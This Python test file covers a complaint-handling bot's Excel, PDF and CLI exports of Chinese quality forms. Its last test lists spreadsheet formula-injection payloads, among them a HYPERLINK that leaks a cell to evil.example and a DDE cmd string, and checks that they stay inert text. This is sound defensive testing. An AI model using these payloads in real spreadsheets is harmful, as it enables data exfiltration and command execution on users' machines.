"""The forms as files: the register and the disposition report, opened again and checked
cell by cell against the database; the PDF's text read back for its Chinese headings;
/export through the emulator; `kesu export` on the command line."""

from __future__ import annotations

import base64
import io
import os
import re
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pypdfium2 as pdfium
import pytest
from openpyxl import load_workbook
from sqlalchemy import Engine, select

from bot.cli import main
from bot.delivery.scheduler import Delivery
from bot.procedure.grading import CustomerClass, Demand
from bot.sandbox.clock import SandboxClock
from bot.services import exports, steps
from bot.services.exports import ExportRefusal
from bot.services.uow import Caller, Services
from bot.views import forms
from bot.views.fonts import cjk_font
from storage.models import Complaint, Purpose
from tests.conftest import (
    GM,
    OUTSIDER,
    PROD_HUANGWU,
    PROD_LAISHAN,
    PURCHASING,
    QC_HUANGWU,
    QC_HW,
    QC_LAISHAN,
    SALES,
    SALES_2,
    VP_EXEC,
    eventually,
)
from tests.harness import running_kesu
from tests.test_chinese import half_width_in_chinese
from tests.test_e2e_intake import file_complaint
from tests.test_workflow import NOW, Company, Press

# Not about Telegram's pace: without its limits (tests/conftest.py).
pytestmark = pytest.mark.usefixtures("telegram_limits_lifted")

SHANGHAI = "Asia/Shanghai"


def _filled(company: Company) -> None:
    """Two complaints in November 2026 (the first appraised), one in December."""
    company.file(
        customer="烟台新材料",
        customer_class=CustomerClass.B,
        demands=[Demand.EXCHANGE],
        content="换货 <急>",
    )
    assert company.press(QC_HW, "initial_assessment", Press.DONE) is steps.PressResult.OK
    step_id = company.step_id("appraisal_report")
    assert company.press(QC_HW, "appraisal_report", Press.DONE) is steps.PressResult.OK
    note = steps.PromptReply(
        Caller(QC_HW, QC_HW), step_id, steps.PromptKind.NOTE, "热处理硬度不足", None
    )
    company.services.call(steps.reply_to_prompt, note)
    company.clock.set(NOW + timedelta(hours=1))
    company.file(received_at=NOW + timedelta(hours=1))
    december = NOW + timedelta(days=8)
    company.clock.set(december)
    company.file(customer="威海精工", received_at=december)


def _pdf_text(content: bytes) -> str:
    """The text of a PDF's pages as PDFium (Chrome's viewer) reads it."""
    document = pdfium.PdfDocument(content)
    try:
        return "".join(page.get_textpage().get_text_range() for page in document)
    finally:
        document.close()


def _chinese_cells_set_full_width(sheet: Any) -> bool:
    """Every text of a Chinese form with Chinese punctuation (tests/test_chinese.py)."""
    found = [
        cell.value
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and half_width_in_chinese(cell.value)
    ]
    assert found == []
    return True


def _register(company: Company, who: int, period: str) -> exports.Register:
    return company.services.call(exports.register, exports.RegisterRequest(Caller(who), period))


def test_the_register_of_a_month_cell_by_cell(engine: Engine) -> None:
    company = Company(engine)
    _filled(company)
    found = _register(company, QC_HW, "2026-11")
    assert found.refusal is None and found.period == "2026-11"
    made = forms.register_xlsx(found.complaints, found.period, "zh_CN", SHANGHAI)
    assert made.name == "客户投诉统计表-2026-11.xlsx"
    sheet = load_workbook(io.BytesIO(made.content)).active
    assert sheet is not None
    assert sheet["A1"].value == "《客户投诉统计表》"
    headings = [c.value for c in sheet[3]]
    assert headings == [
        "编号",
        "时间",
        "客户名称（代号）",
        "投诉内容及要求",
        "顾客类别",
        "联系电话",
        "问题性质",
        "一个月后复查",  # Kesu's own column: none set in this month's complaints
    ]
    with company.sessions() as session:
        stored = session.scalars(
            select(Complaint).where(Complaint.received_at < NOW + timedelta(days=7))
        ).all()
        tz = ZoneInfo(SHANGHAI)
        expected = [
            [
                c.number,
                c.received_at.astimezone(tz).strftime("%Y-%m-%d %H:%M"),
                c.customer_name,
                c.content
                + "\n（"
                + "、".join(
                    {"claim": "索赔", "return": "退货", "exchange": "换货"}[d] for d in c.demands
                )
                + "）",
                c.customer_class.value,
                c.contact_phone,
                {"A": "A 非常严重", "B": "B 严重", "C": "C 普通"}[c.grade.value],
                None,
            ]
            for c in sorted(stored, key=lambda c: c.received_at)
        ]
    rows = [[c.value for c in row] for row in sheet.iter_rows(min_row=4, max_row=5)]
    assert _chinese_cells_set_full_width(sheet)
    assert rows == expected
    assert rows[0][3] == "换货 <急>\n（换货）"  # as typed, not escaped
    assert sheet.cell(row=6, column=1).value is None  # December is not in November
    assert sheet.cell(row=7, column=1).value == "填表说明："
    # Sales keep the register; QC and leadership get it; someone unknown does not.
    assert _register(company, SALES_2, "2026-11").refusal is None
    assert _register(company, GM, "2026-12").complaints[0].customer_name == "威海精工"
    assert _register(company, OUTSIDER, "2026-11").refusal is ExportRefusal.NOT_REGISTERED
    assert _register(company, QC_HW, "2026-13").refusal is ExportRefusal.BAD_PERIOD


def test_the_disposition_report_as_xlsx_and_pdf(engine: Engine) -> None:
    company = Company(engine)
    _filled(company)
    with company.sessions() as session:
        number = session.scalars(
            select(Complaint.number).where(Complaint.customer_name == "烟台新材料")
        ).one()
    found = company.services.call(exports.report, exports.ReportRequest(Caller(QC_HW), number))
    assert found.complaint is not None
    sheet = load_workbook(
        io.BytesIO(forms.report_xlsx(found.complaint, "zh_CN", SHANGHAI).content)
    ).active
    assert sheet is not None
    cells = {row[0].value: row[1].value for row in sheet.iter_rows(min_row=2)}
    assert sheet["A1"].value == "顾客反馈质量问题处置报告单"
    assert cells["编号"] == number and cells["客户名称（代号）"] == "烟台新材料"
    assert cells["顾客类别"] == "B" and cells["问题性质"] == "C 普通"
    assert cells["交货数量"] == "100 件" and cells["规格型号"] == "6204"
    assert cells["质量问题因素分析"] == "热处理硬度不足"
    assert "■ 1 黄务车间、仓库" in cells["产品生产供货责任"]
    assert "□ 3 外协厂家" in cells["产品生产供货责任"]
    # The signature under the cause analysis: who did the appraisal, and when.
    signatures = [
        row[1].value for row in sheet.iter_rows(min_row=2) if row[0].value == "质检、技术部负责人"
    ]
    assert signatures[0].startswith("李质检") and not signatures[1]  # 11 is not done yet

    pdf = forms.report_pdf(found.complaint, "zh_CN", SHANGHAI, cjk_font())
    assert pdf.content.startswith(b"%PDF") and pdf.name.endswith(f"{number}.pdf")
    text = re.sub(r"\s", "", _pdf_text(pdf.content))
    for heading in (
        "顾客反馈质量问题处置报告单",
        "客户名称（代号）",
        "质量问题因素分析",
        "产品生产供货责任",
    ):
        assert heading in text
    assert "烟台新材料" in text and "热处理硬度不足" in text
    assert half_width_in_chinese(text) == [] and _chinese_cells_set_full_width(sheet)
    assert "■1黄务车间、仓库" in text and "□2莱山车间、仓库" in text  # the boxes are drawn
    english = forms.report_pdf(found.complaint, "en", SHANGHAI, cjk_font())
    english_text = _pdf_text(english.content)
    assert "Quality problem cause analysis" in english_text
    # Someone who may not see it is told there is no such complaint.
    other = company.services.call(exports.report, exports.ReportRequest(Caller(SALES_2), number))
    assert other.refusal is ExportRefusal.NOT_FOUND


async def test_export_in_chat_sends_the_files(
    engine: Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The forms are built in the builder process (Services.build), neither on the event
    # loop nor on the database thread: a second of work per form would stall every chat.
    built: list[str] = []
    original = Services.build

    async def recording(self: Services, work: Any, *args: Any, **kwargs: Any) -> Any:
        built.append(work.__name__)
        return await original(self, work, *args, **kwargs)

    monkeypatch.setattr(Services, "build", recording)
    async with running_kesu(engine) as world:
        await file_complaint(world, letter=False)
        with world.sessions() as session:
            number = session.scalars(select(Complaint.number)).one()
        await world.say(QC_HW, f"/export report {number}")
        documents = await eventually(
            lambda: (
                [m for m in world.emu.bot_messages(QC_HW) if m.kind == "document"][1:]
                and [m for m in world.emu.bot_messages(QC_HW) if m.kind == "document"]
            )
        )
        assert [d.file_name for d in documents] == [
            f"顾客反馈质量问题处置报告单-{number}.xlsx",
            f"顾客反馈质量问题处置报告单-{number}.pdf",
        ]
        workbook = load_workbook(io.BytesIO(world.emu.files[documents[0].file_id]["content"]))
        assert workbook.active is not None and workbook.active["B2"].value == number
        month = number.split("-")[1]
        await world.say(SALES, "/export register")
        register = await eventually(
            lambda: [m for m in world.emu.bot_messages(SALES) if m.kind == "document"]
        )
        assert register[0].file_name.startswith("客户投诉统计表-" + month)
        await world.say(SALES, "/export nonsense")
        assert "/export register 2026-11" in world.last(SALES).text
    assert built == ["report_xlsx", "report_pdf", "register_xlsx"]


async def test_files_are_built_in_a_process_of_their_own(engine: Engine) -> None:
    company = Company(engine)
    try:
        assert await company.services.build(os.getpid) != os.getpid()
    finally:
        company.services.close()


def test_the_rectification_plan_as_xlsx_and_pdf(engine: Engine) -> None:
    company = Company(engine)
    company.file()  # a claim and a return at Huangwu: the executive VP leads a plan
    company.issue_plan(VP_EXEC, [("调整装配间隙", QC_HW, VP_EXEC), ("更换供应商", PURCHASING, GM)])
    assert company.press_item(QC_HW, "plan_item", 1, "done") is steps.PressResult.OK
    assert company.press_item(VP_EXEC, "item_acceptance", 1, "acc") is steps.PressResult.OK
    with company.sessions() as session:
        number = session.scalars(select(Complaint.number)).one()
    found = company.services.call(exports.plan, exports.ReportRequest(Caller(QC_HW), number))
    assert found.complaint is not None and found.plan is not None
    book = load_workbook(
        io.BytesIO(forms.plan_xlsx(found.plan, found.complaint, "zh_CN", SHANGHAI).content)
    )
    sheet = book.active
    assert sheet is not None
    assert sheet["A1"].value == "《质量问题整治方法计划表》"
    upper = {sheet.cell(r, 1).value: sheet.cell(r, 2).value for r in range(2, 8)}
    assert upper["立项质量问题描述"] == "轴承异响"
    assert upper["质量问题形成的因素"] == "装配间隙过大"
    assert upper["质量整治项目总负责人"] == "刘常务"
    assert upper["完毕期限"] == "2026-12-31"
    assert upper["参加、支持部门"] == "生产部门、质检部门"
    header = [c.value for c in sheet[9]]
    assert header == [
        "序号",
        "质量整治分项目",
        "整治方法规定",
        "分项目负责人",
        "分项目完毕时间",
        "验收负责人",
        "状态",
    ]
    first, second = ([c.value for c in sheet[r]] for r in (10, 11))
    assert first == [
        "1",
        "调整装配间隙",
        "复检合格",
        "李质检",
        "2026-12-01 17:30",
        "刘常务",
        "已验收",
    ]
    assert second[:4] == ["2", "更换供应商", "复检合格", "钱采购"] and second[6] == "进行中"
    pdf = forms.plan_pdf(found.plan, found.complaint, "zh_CN", SHANGHAI, cjk_font())
    text = re.sub(r"\s", "", _pdf_text(pdf.content))
    for heading in ("质量问题整治方法计划表", "立项质量问题描述", "分项目负责人", "验收负责人"):
        assert heading in text
    assert "调整装配间隙" in text and "更换供应商" in text
    assert half_width_in_chinese(text) == [] and _chinese_cells_set_full_width(sheet)
    english = _pdf_text(
        forms.plan_pdf(found.plan, found.complaint, "en", SHANGHAI, cjk_font()).content
    )
    assert "Quality problem rectification plan" in english
    # A complaint without a plan has none to export.
    company.file(demands=[Demand.EXCHANGE], content="换货")
    with company.sessions() as session:
        other = session.scalars(select(Complaint.number).order_by(Complaint.id.desc())).first()
    assert other is not None
    none = company.services.call(exports.plan, exports.ReportRequest(Caller(QC_HW), other))
    assert none.refusal is ExportRefusal.NO_PLAN


def test_kesu_export_writes_the_files(
    engine: Engine, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    if engine.dialect.name != "sqlite":
        pytest.skip("the command line reads the configuration's database; SQLite here")
    company = Company(engine)
    _filled(company)
    config = tmp_path / "kesu.toml"
    example = (Path(__file__).parent.parent / "config.example.toml").read_text()
    config.write_text(example.replace('url = "sqlite:///kesu.db"', f'url = "{engine.url}"'))
    out = tmp_path / "forms"
    assert main(["export", "register", "2026-11", "--config", str(config), "--out", str(out)]) == 0
    written = Path(capsys.readouterr().out.strip())
    assert written.parent == out and written.name == "客户投诉统计表-2026-11.xlsx"
    sheet = load_workbook(written).active
    assert sheet is not None and sheet["C4"].value == "烟台新材料"
    with company.sessions() as session:
        number = session.scalars(select(Complaint.number).order_by(Complaint.id)).first()
    assert number is not None
    assert main(["export", "report", number, "--config", str(config), "--out", str(out)]) == 0
    assert {p.suffix for p in out.iterdir()} == {".xlsx", ".pdf"}
    assert main(["export", "report", "KS-2099-0001", "--config", str(config)]) == 2
    # The rectification plan of the A complaint (the second filed).
    with company.sessions() as session:
        planned = session.scalars(select(Complaint.number).order_by(Complaint.id)).all()[1]
    company.issue_plan(VP_EXEC, [("调整装配间隙", QC_HW, VP_EXEC)], number=planned)
    plan_out = tmp_path / "plan"
    assert main(["export", "plan", planned, "--config", str(config), "--out", str(plan_out)]) == 0
    assert sorted(p.name for p in plan_out.iterdir()) == [
        f"质量问题整治方法计划表-{planned}.pdf",
        f"质量问题整治方法计划表-{planned}.xlsx",
    ]
    assert main(["export", "plan", number, "--config", str(config)]) == 2  # no plan
    # The weekly summary as text on the command line.
    capsys.readouterr()
    assert main(["summary", "--week", "2026-W48", "--config", str(config)]) == 0
    printed = capsys.readouterr().out
    assert "客户投诉每周汇总" in printed and "2026-W48" in printed and "<b>" not in printed
    assert main(["summary", "--week", "W48", "--config", str(config)]) == 2


def test_the_month_end_register_goes_to_qc_and_production_as_xlsx(engine: Engine) -> None:
    company = Company(engine)
    _filled(company)  # two complaints in November 2026, one in December
    shanghai = ZoneInfo(SHANGHAI)
    due = company.services.call(exports.next_month_end)
    # Before any posting, the next is due after now (the clock stands in December).
    assert due == datetime(2026, 12, 31, 17, 0, tzinfo=shanghai)
    november = datetime(2026, 11, 30, 17, 0, tzinfo=shanghai)
    company.clock.set(november + timedelta(hours=1))  # the bot was down at 17:00
    assert company.services.call(exports.post_month_end, november) == 2
    rows = company.outbox(Purpose.REGISTER)
    assert {r.chat_id for r in rows} == {QC_HUANGWU, QC_LAISHAN, PROD_HUANGWU, PROD_LAISHAN}
    payload = rows[0].payload
    assert payload["file_name"] == "客户投诉统计表-2026-11.xlsx"
    assert "2026-11" in payload["caption"] and "2026-11-30 17:00" in payload["caption"]
    sheet = load_workbook(io.BytesIO(base64.b64decode(payload["upload"]))).active
    assert sheet is not None
    with company.sessions() as session:
        november_rows = session.scalars(
            select(Complaint)
            .where(Complaint.received_at < datetime(2026, 12, 1, tzinfo=shanghai))
            .order_by(Complaint.id)
        ).all()
        for offset, complaint in enumerate(november_rows):
            row = [cell.value for cell in sheet[4 + offset]]
            assert row[0] == complaint.number and row[2] == complaint.customer_name
            assert row[4] == complaint.customer_class.value
    assert sheet.cell(6, 1).value in (None, "")  # two rows, nothing of December
    # Posted once: the next is December's.
    assert company.services.call(exports.next_month_end) == datetime(
        2026, 12, 31, 17, 0, tzinfo=shanghai
    )


async def test_the_month_end_register_is_uploaded_through_the_emulator(engine: Engine) -> None:
    if engine.dialect.name != "sqlite":
        pytest.skip("the upload goes the same way on PostgreSQL (test above)")
    shanghai = ZoneInfo(SHANGHAI)
    clock = SandboxClock()
    clock.set(datetime(2026, 11, 30, 16, 59, tzinfo=shanghai))
    async with running_kesu(engine, clock=clock) as world:
        delivery = world.kesu.services.after_commit
        assert isinstance(delivery, Delivery)
        clock.set(datetime(2026, 11, 30, 17, 1, tzinfo=shanghai))
        assert await delivery.fire_due() >= 1
        document = await eventually(
            lambda: next(
                (m for m in world.emu.bot_messages(QC_HUANGWU) if m.kind == "document"), None
            )
        )
        assert document.file_name == "客户投诉统计表-2026-11.xlsx"


def test_the_weekly_chart_is_a_png_whose_chinese_labels_the_font_draws() -> None:
    """No "glyph missing" warning (warnings are errors here), a decodable PNG, and a
    glyph in the installed CJK font for every character the chart writes."""
    import warnings

    from matplotlib.font_manager import get_font
    from matplotlib.ft2font import FT2Font
    from PIL import Image

    from bot.views import charts

    weeks = [(f"2026-W{n:02d}", {"A": n % 3, "B": 1, "C": 2}) for n in range(37, 49)]
    late = {"qc": 2, "sales": 1, "assignee": 1}
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        png = charts.weekly_chart(weeks, late, "zh_CN", cjk_font())
    image = Image.open(io.BytesIO(png))
    assert image.format == "PNG" and image.size == (1000, 420)
    face = charts.font_properties(cjk_font()).get_file()
    assert get_font(face).family_name == "Noto Sans CJK SC"  # not the collection's first
    font = FT2Font(cjk_font().path)
    drawn = "".join(charts.chart_texts(weeks, late, "zh_CN"))
    assert "按问题性质" in drawn and "质检、技术部门" in drawn
    missing = {ch for ch in drawn if not ch.isspace() and font.get_char_index(ord(ch)) == 0}
    assert missing == set()
    # Nothing late this week: the right half says so instead of an empty plot.
    assert Image.open(io.BytesIO(charts.weekly_chart(weeks, {}, "en", cjk_font()))).size == (
        1000,
        420,
    )


FORMULAS = (
    '=HYPERLINK("https://evil.example/?x="&D4,"海达机械")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
)


def test_what_people_typed_is_text_in_every_spreadsheet(engine: Engine) -> None:
    """A customer, a description, a note, a plan item named like a formula stay text in
    the register (with its files sheet), the disposition report and the plan."""
    company = Company(engine)
    for index, hostile in enumerate(FORMULAS):
        company.file(
            customer=hostile if index == 0 else f"客户{index}",
            content=hostile,
            description=hostile,
            product_name=hostile,
            specification=hostile,
            received_at=NOW + timedelta(minutes=index),
        )
        if index == 0:  # one plan (the helper finds the one plan step)
            items = [(FORMULAS[0], QC_HW, VP_EXEC), (FORMULAS[3], PURCHASING, GM)]
            company.issue_plan(VP_EXEC, items)
    first = "KS-2026-0001"
    found = _register(company, QC_HW, "2026-11")
    report = company.services.call(exports.report, exports.ReportRequest(Caller(QC_HW), first))
    plan = company.services.call(exports.plan, exports.ReportRequest(Caller(QC_HW), first))
    assert report.complaint is not None and plan.complaint is not None and plan.plan is not None
    files = [
        forms.register_xlsx(found.complaints, found.period, "zh_CN", SHANGHAI),
        forms.report_xlsx(report.complaint, "en", SHANGHAI),
        forms.plan_xlsx(plan.plan, plan.complaint, "zh_CN", SHANGHAI),
    ]
    for made in files:
        book = load_workbook(io.BytesIO(made.content))
        values = []
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (made.name, cell.coordinate, cell.value)
                    values.append(cell.value)
        # Still there, as typed, somewhere in each.
        assert any(isinstance(v, str) and FORMULAS[0] in v for v in values), made.name
